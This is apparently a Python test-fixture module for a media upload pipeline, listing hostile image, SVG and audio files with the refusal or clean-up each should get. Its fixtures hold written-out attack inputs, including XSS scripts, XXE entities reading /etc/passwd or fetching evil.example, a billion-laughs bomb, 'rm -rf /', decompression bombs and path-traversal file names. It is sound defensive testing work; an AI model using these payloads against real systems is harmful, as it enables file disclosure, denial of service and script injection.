"""Files that nobody should have to fear: broken, lying, far too large, or written to do harm. Each with what becomes of it.

`said` is the message by which it's refused; where it's empty the file is made safe, and what comes out holds nothing of `harm`.
"""

import gzip
import random
import struct
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from PIL import Image

from mpt.media import refusals
from mpt.web.studio import media_words
from tests.media.files import RATE, SVG, photo, saved, tone, wav
from tests.recordings import mp3

NOISE = random.Random(1).randbytes
SCRIPT = b"<script>alert(1)</script>"
_SAID = media_words._SAID


@dataclass(frozen=True, slots=True)
class Hostile:
    """One such file: what it's called, how it's made, by what it's refused, and what mustn't be in what is made of it."""

    file_name: str
    make: Callable[[], bytes]
    said: str = ""
    harm: tuple[bytes, ...] = ()


def said(kind: type[refusals.RefusedFileError]) -> str:
    """Return the message of a refusal."""
    return _SAID[kind]


def chunk(kind: bytes, data: bytes) -> bytes:
    """Return a part of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, *between: bytes, data: bytes = b"\0" * 100) -> bytes:
    """Return a PNG that says it's this large, with other parts between its head and its pixels."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"".join((b"\x89PNG\r\n\x1a\n", head, *between, chunk(b"IDAT", zlib.compress(data)), chunk(b"IEND", b"")))


def bomb(width: int, height: int) -> bytes:
    """Return a small PNG that unpacks to this many pixels."""
    return saved(Image.new("1", (width, height)), "PNG")


def jpeg(**options: object) -> bytes:
    """Return a photo as a JPEG."""
    return saved(photo(), "JPEG", **options)


def exif() -> bytes:
    """Return where and when a photo was taken."""
    found = Image.Exif()
    found[0x010E] = "at home, Qingshi village"
    found[0x0112] = 6
    found.get_ifd(0x8825)[1] = "N"
    return found.tobytes()


def moving(kind: str) -> bytes:
    """Return a picture of two that follow each other."""
    two = [photo(100, 80), photo(100, 80).rotate(180)]
    return saved(two[0], kind, save_all=True, append_images=two[1:], duration=100)


def svg(inside: str = "", attributes: str = "", before: str = "") -> bytes:
    """Return a drawing."""
    names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 320 180"'
    return f"{before}<svg {names} {attributes}>{inside}</svg>".encode()


PATH = '<path d="M0 0L320 180"/>'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))


def as_wav(**changed: int) -> bytes:
    """Return a WAV whose head says something else than is true."""
    form = {
        "format": 1,
        "channels": 1,
        "rate": RATE,
        "bytes": RATE * 2,
        "frame": 2,
        "bits": 16,
        "size": RATE * 4,
        **changed,
    }
    data = tone(2).tobytes()
    head = struct.pack("<IHHIIHH", 16, *(form[key] for key in ("format", "channels", "rate", "bytes", "frame", "bits")))
    return (
        b"RIFF" + struct.pack("<I", 0xFFFFFFFF) + b"WAVEfmt " + head + b"data" + struct.pack("<I", form["size"]) + data
    )


_OTHER = media_words._OTHER_PICTURE
_NO_PICTURE = media_words._NO_PICTURE
_HEIC = media_words._HEIC
_OTHER_SOUND = media_words._OTHER_SOUND
_NO_SOUND = media_words._NO_SOUND

OTHER_KINDS: Mapping[str, Hostile] = {
    "nothing": Hostile("a.png", lambda: b"", said(refusals.EmptyFileError)),
    "a page called a photo": Hostile("a.jpg", lambda: b"<!DOCTYPE html>" + SCRIPT, _OTHER),
    "a page with a drawing in it": Hostile("a.svg", lambda: b"<html><body>" + SVG, _OTHER),
    "a PDF called a PNG": Hostile("a.png", lambda: b"%PDF-1.7\n" + NOISE(500), _OTHER),
    "a program": Hostile("a.jpg", lambda: b"MZ" + NOISE(500), _OTHER),
    "a shell script": Hostile("a.png", lambda: b"#!/bin/sh\nrm -rf /\n", _OTHER),
    "a Word file": Hostile("a.jpg", lambda: b"PK\x03\x04" + NOISE(500), _OTHER),
    "a photo of a newer phone": Hostile("a.jpg", lambda: b"\0\0\0\x18ftypheic" + NOISE(500), _HEIC),
    "an AVIF": Hostile("a.png", lambda: saved(photo(), "AVIF"), _HEIC),
    "a TIFF": Hostile("a.jpg", lambda: saved(photo(), "TIFF"), _HEIC),
    "a Photoshop file": Hostile("a.png", lambda: b"8BPS" + NOISE(500), _HEIC),
    "a drawing packed by gzip": Hostile("a.svg", lambda: gzip.compress(SVG), _OTHER),
    "PostScript, which is a program": Hostile(
        "a.png", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) run\n", _NO_PICTURE
    ),
    "a picture of ImageMagick's": Hostile(
        "a.png", lambda: b"push graphic-context\nimage over 0,0 0,0 'url(/)'\n", _NO_PICTURE
    ),
    "noise": Hostile("a.jpg", lambda: b"\0" + NOISE(5000), _NO_PICTURE),
    "a recording called a picture": Hostile("a.png", lambda: wav(tone(1)), _OTHER),
    "a film": Hostile("a.gif", lambda: b"\x1aE\xdf\xa3" + NOISE(500), _OTHER),
    "more than may be sent": Hostile(
        "a.bmp", lambda: b"BM" + bytes(31 * 1024 * 1024), said(refusals.TooLargeFileError)
    ),
}
"""Whatever isn't a picture."""

LYING: Mapping[str, Hostile] = {
    "a PNG of its head alone": Hostile("a.png", lambda: saved(photo(), "PNG")[:60], said(refusals.BrokenFileError)),
    "half a JPEG": Hostile("a.jpg", lambda: jpeg()[:2500], said(refusals.BrokenFileError)),
    "half a WebP": Hostile("a.webp", lambda: saved(photo(), "WEBP")[:900], said(refusals.BrokenFileError)),
    "half a BMP": Hostile("a.bmp", lambda: saved(photo(), "BMP")[:9000], said(refusals.BrokenFileError)),
    "three bytes of a JPEG": Hostile("a.jpg", lambda: b"\xff\xd8\xff", said(refusals.BrokenFileError)),
    "a PNG with other pixels than it says": Hostile("a.png", lambda: png_of(300, 200), said(refusals.BrokenFileError)),
    "400 million pixels in 50 KB": Hostile("a.png", lambda: bomb(20_000, 20_000), said(refusals.TooManyPixelsError)),
    "48 million pixels": Hostile("a.png", lambda: bomb(8000, 6000), said(refusals.TooManyPixelsError)),
    "a PNG that says it's endless": Hostile(
        "a.png", lambda: png_of(2**31 - 1, 2**31 - 1), said(refusals.TooManyPixelsError)
    ),
    "a GIF that says it's huge": Hostile(
        "a.gif",
        lambda: b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\xff\xff\xff\xff\0\x02\0;",
        said(refusals.TooManyPixelsError),
    ),
    "a BMP that says it's huge": Hostile(
        "a.bmp",
        lambda: saved(photo(), "BMP")[:18] + struct.pack("<ii", 30_000, 30_000) + saved(photo(), "BMP")[26:],
        said(refusals.TooManyPixelsError),
    ),
    "80 MB of words in a PNG": Hostile(
        "a.png",
        lambda: png_of(300, 200, chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(80_000_000))), data=bytes(901 * 200)),
        said(refusals.BrokenFileError),
    ),
    "80 MB of a colour profile": Hostile(
        "a.png",
        lambda: png_of(300, 200, chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(80_000_000))), data=bytes(901 * 200)),
        said(refusals.BrokenFileError),
    ),
    "one pixel that counts readers": Hostile(
        "a.gif", lambda: saved(Image.new("L", (1, 1)), "GIF"), said(refusals.TooSmallPictureError)
    ),
    "a thread": Hostile("a.png", lambda: saved(photo(4000, 40), "PNG"), said(refusals.OddShapeError)),
    "one colour": Hostile(
        "a.png", lambda: saved(Image.new("RGB", (300, 200), "white"), "PNG"), said(refusals.EmptyPictureError)
    ),
    "a picture that can't be seen": Hostile(
        "a.png",
        lambda: saved(Image.merge("RGBA", (*photo().split(), Image.new("L", (400, 300)))), "PNG"),
        said(refusals.EmptyPictureError),
    ),
    "a GIF that moves": Hostile("a.gif", lambda: moving("GIF"), said(refusals.MovingPictureError)),
    "a WebP that moves": Hostile("a.webp", lambda: moving("WEBP"), said(refusals.MovingPictureError)),
    "a PNG that moves": Hostile("a.png", lambda: moving("PNG"), said(refusals.MovingPictureError)),
    "see-through noise": Hostile(
        "a.png",
        lambda: saved(Image.frombytes("RGBA", (300, 440), NOISE(300 * 440 * 4)), "PNG"),
        said(refusals.TooBusyError),
    ),
}
"""Pictures that are broken, say what isn't so, or aren't fit for a lesson."""

MADE_SAFE: Mapping[str, Hostile] = {
    "a page behind a JPEG": Hostile("a.jpg", lambda: jpeg() + b"<html>" + SCRIPT, harm=(b"<script",)),
    "a script in a JPEG's comment": Hostile("a.jpg", lambda: jpeg(comment=SCRIPT), harm=(b"<script", b"alert")),
    "a program behind a PNG": Hostile(
        "a.png", lambda: saved(photo(), "PNG") + b"PK\x03\x04" + b"MZ evil", harm=(b"evil",)
    ),
    "a GIF that is JavaScript too": Hostile(
        "a.gif", lambda: saved(photo(), "GIF", comment=b"*/=alert(1)//") + b"*/=1;alert(1)", harm=(b"alert",)
    ),
    "a BMP with a page behind it": Hostile("a.bmp", lambda: saved(photo(), "BMP") + SCRIPT, harm=(b"<script",)),
    "words in a WebP": Hostile("a.webp", lambda: saved(photo(), "WEBP", xmp=SCRIPT), harm=(b"<script",)),
    "where it was taken": Hostile("a.jpg", lambda: jpeg(exif=exif()), harm=(b"Qingshi", b"Exif", b"GPS")),
    "where it was taken, in a PNG": Hostile(
        "a.png", lambda: saved(photo(), "PNG", exif=exif()), harm=(b"Qingshi", b"eXIf")
    ),
    "broken words of a camera": Hostile("a.jpg", lambda: jpeg(exif=b"Exif\0\0II*\0" + NOISE(200)), harm=(b"Exif",)),
    "a broken colour profile": Hostile("a.jpg", lambda: jpeg(icc_profile=b"evil" * 99), harm=(b"evil", b"ICC_PROFILE")),
    "colours for printing": Hostile("a.jpg", lambda: saved(photo().convert("CMYK"), "JPEG")),
    "sixteen bits a colour": Hostile(
        "a.png", lambda: saved(Image.linear_gradient("L").convert("I").point(lambda v: v * 200).convert("I;16"), "PNG")
    ),
    "a palette with a clear colour": Hostile("a.gif", lambda: saved(photo().quantize(16), "GIF", transparency=0)),
    "two colours": Hostile("a.png", lambda: saved(Image.linear_gradient("L").convert("1"), "PNG")),
    "another name than kind": Hostile("photo.svg", jpeg),
    "a name that leads elsewhere": Hostile("../../../etc/cron.d/evil.jpg", jpeg),
}
"""Pictures that are drawn anew, so that what was hidden in them stays behind."""

DRAWINGS: Mapping[str, Hostile] = {
    "nothing but a script": Hostile(
        "a.svg", lambda: svg("<script>alert(1)</script>"), said(refusals.NothingDrawnError)
    ),
    "a script beside a shape": Hostile(
        "a.svg", lambda: svg(f"<script>alert(1)</script>{PATH}"), harm=(b"script", b"alert")
    ),
    "a script in an attribute": Hostile("a.svg", lambda: svg(PATH, 'onload="alert(1)"'), harm=(b"onload", b"alert")),
    "a script behind a link": Hostile(
        "a.svg", lambda: svg(f'<a xlink:href="javascript:alert(1)">{PATH}</a>'), harm=(b"href", b"alert")
    ),
    "a page inside": Hostile(
        "a.svg",
        lambda: svg(
            f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="//evil.example"/></foreignObject>{PATH}'
        ),
        harm=(b"foreign", b"evil", b"iframe"),
    ),
    "a picture from elsewhere": Hostile(
        "a.svg",
        lambda: svg(f'<image xlink:href="https://evil.example/a.png" width="9" height="9"/>{PATH}'),
        harm=(b"evil", b"image"),
    ),
    "a sheet from elsewhere": Hostile(
        "a.svg",
        lambda: svg(
            '<style>@import url(//evil.example); .a{fill:url(//evil.example/#a)}</style><path class="a" d="M0 0"/>'
        ),
        harm=(b"evil", b"style", b"url"),
    ),
    "a style that fetches": Hostile(
        "a.svg",
        lambda: svg('<path d="M0 0" style="fill:url(https://evil.example);filter:url(#f)"/>'),
        harm=(b"evil", b"url"),
    ),
    "a movement that sets a link": Hostile(
        "a.svg",
        lambda: svg(f'{PATH}<set attributeName="xlink:href" to="javascript:alert(1)"/>'),
        harm=(b"set", b"alert"),
    ),
    "a handler of another kind": Hostile(
        "a.svg",
        lambda: svg(f'<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>{PATH}'),
        harm=(b"handler", b"alert"),
    ),
    "a shape of another language": Hostile(
        "a.svg", lambda: svg(f'<x:path xmlns:x="http://evil.example" d="M0 0"/>{PATH}'), harm=(b"evil", b"x:")
    ),
    "a billion laughs": Hostile(
        "a.svg",
        lambda: svg("<text>&l8;</text>", before=f'<!DOCTYPE svg [<!ENTITY l0 "lol">{LAUGHS}]>'),
        said(refusals.DeclaringError),
    ),
    "the server's own files": Hostile(
        "a.svg",
        lambda: svg("<text>&x;</text>", before='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        said(refusals.DeclaringError),
    ),
    "a parameter from elsewhere": Hostile(
        "a.svg",
        lambda: svg(PATH, before='<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]>'),
        said(refusals.DeclaringError),
    ),
    "a million copies": Hostile(
        "a.svg",
        lambda: svg(
            '<defs><g id="a"><use xlink:href="#b"/></g><g id="b"><use xlink:href="#a"/></g></defs><use xlink:href="#a"/>'
        ),
        said(refusals.NothingDrawnError),
    ),
    "a hundred thousand groups in each other": Hostile(
        "a.svg", lambda: svg("<g>" * 100_000 + "</g>" * 100_000), said(refusals.TooIntricateError)
    ),
    "a hundred thousand shapes": Hostile("a.svg", lambda: svg("<path/>" * 100_000), said(refusals.TooIntricateError)),
    "a path of a megabyte": Hostile(
        "a.svg",
        lambda: svg(f'<path d="M{" ".join(str(number % 997 / 7) for number in range(60_000))}"/>'),
        said(refusals.TooIntricateError),
    ),
    "numbers that aren't": Hostile(
        "a.svg", lambda: svg(f'<rect width="{"9" * 500}e999" x="calc(1)"/>{PATH}'), harm=(b"calc",)
    ),
    "marks that aren't closed": Hostile("a.svg", lambda: svg("<path"), said(refusals.BrokenDrawingError)),
    "an encoding nobody knows": Hostile(
        "a.svg", lambda: svg(PATH, before='<?xml version="1.0" encoding="x-evil"?>'), said(refusals.BrokenDrawingError)
    ),
    "no size": Hostile(
        "a.svg",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
        said(refusals.NoViewBoxError),
    ),
    "three megabytes": Hostile(
        "a.svg", lambda: svg(f"<!--{'a' * 3_000_000}-->{PATH}"), said(refusals.TooLargeFileError)
    ),
}
"""Drawings."""

SOUNDS: Mapping[str, Hostile] = {
    "nothing": Hostile("a.mp3", lambda: b"", said(refusals.EmptyFileError)),
    "a page called a recording": Hostile("a.mp3", lambda: b"<!doctype html>" + SCRIPT, _OTHER_SOUND),
    "a picture called a recording": Hostile("a.mp3", jpeg, _OTHER_SOUND),
    "an M4A": Hostile("a.m4a", lambda: b"\0\0\0\x20ftypM4A " + NOISE(500), _OTHER_SOUND),
    "a WebM": Hostile("a.mp3", lambda: b"\x1aE\xdf\xa3" + NOISE(500), _OTHER_SOUND),
    "a chat's voice": Hostile("a.amr", lambda: b"#!AMR\n" + NOISE(500), _OTHER_SOUND),
    "an AAC": Hostile("a.mp3", lambda: b"\xff\xf1" + NOISE(500), _OTHER_SOUND),
    "an Opus": Hostile("a.ogg", lambda: b"OggS" + bytes(24) + b"OpusHead" + NOISE(500), _OTHER_SOUND),
    "an AVI": Hostile("a.wav", lambda: b"RIFF\0\0\0\0AVI " + NOISE(500), _OTHER_SOUND),
    "noise": Hostile("a.mp3", lambda: b"\0" + NOISE(5000), _NO_SOUND),
    "a WAV of its head alone": Hostile("a.wav", lambda: wav(tone(1))[:30], said(refusals.BrokenFileError)),
    "a WAV without a sound": Hostile("a.wav", lambda: wav(tone(0)), said(refusals.BrokenFileError)),
    "a FLAC of noise": Hostile("a.flac", lambda: b"fLaC" + NOISE(5000), said(refusals.BrokenFileError)),
    "an Ogg of noise": Hostile("a.ogg", lambda: b"OggS" + NOISE(5000), said(refusals.BrokenFileError)),
    "an MP3 with nothing behind its words": Hostile(
        "a.mp3", lambda: b"ID3\x04\0\0\0\0\0\x05" + bytes(5), said(refusals.BrokenFileError)
    ),
    "a WAV without channels": Hostile("a.wav", lambda: as_wav(channels=0), said(refusals.BrokenFileError)),
    "a WAV without bits": Hostile("a.wav", lambda: as_wav(bits=0, frame=0), said(refusals.BrokenFileError)),
    "a WAV of 65,535 channels": Hostile(
        "a.wav", lambda: as_wav(channels=65_535, frame=65_535), said(refusals.BrokenFileError)
    ),
    "a WAV of one sample a second": Hostile("a.wav", lambda: as_wav(rate=1, bytes=2), said(refusals.TooLongSoundError)),
    "twenty minutes of nothing": Hostile("a.mp3", lambda: mp3(1200), said(refusals.TooLongSoundError)),
    "four minutes": Hostile("a.wav", lambda: wav(tone(24) * 10), said(refusals.TooLongSoundError)),
    "a breath": Hostile("a.wav", lambda: wav(tone(0.3)), said(refusals.TooShortSoundError)),
    "silence": Hostile("a.wav", lambda: wav(tone(3, 0)), said(refusals.SilentSoundError)),
    "a WAV that says it's endless": Hostile("a.wav", lambda: as_wav(size=0xFFFFFFFF)),
    "words in a recording": Hostile(
        "a.mp3", lambda: b"ID3\x04\0\0\0\0\x07\x68" + SCRIPT.ljust(1000, b"\0") + voice(), harm=(b"<script", b"ID3")
    ),
    "a page behind a recording": Hostile("a.wav", lambda: wav(tone(2)) + SCRIPT, harm=(b"<script",)),
    "a name that leads elsewhere": Hostile("../../evil.mp3", lambda: wav(tone(2))),
}
"""Recordings."""


def voice() -> bytes:
    """Return two seconds that can be heard, as an MP3."""
    from mpt.media.sounds import taken  # noqa: PLC0415 - only this one file is made by it

    return taken(wav(tone(2))).mp3
